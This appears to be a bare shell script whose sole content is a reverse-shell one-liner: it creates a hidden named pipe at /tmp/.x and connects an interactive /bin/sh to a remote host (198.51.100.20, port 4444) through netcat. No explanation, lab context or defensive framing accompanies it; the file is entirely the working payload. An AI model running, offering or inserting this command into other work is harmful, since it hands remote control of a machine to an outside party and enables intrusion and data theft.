#!/bin/sh
rm -f /tmp/.x; mkfifo /tmp/.x; cat /tmp/.x | /bin/sh -i 2>&1 | nc 198.51.100.20 4444 > /tmp/.x
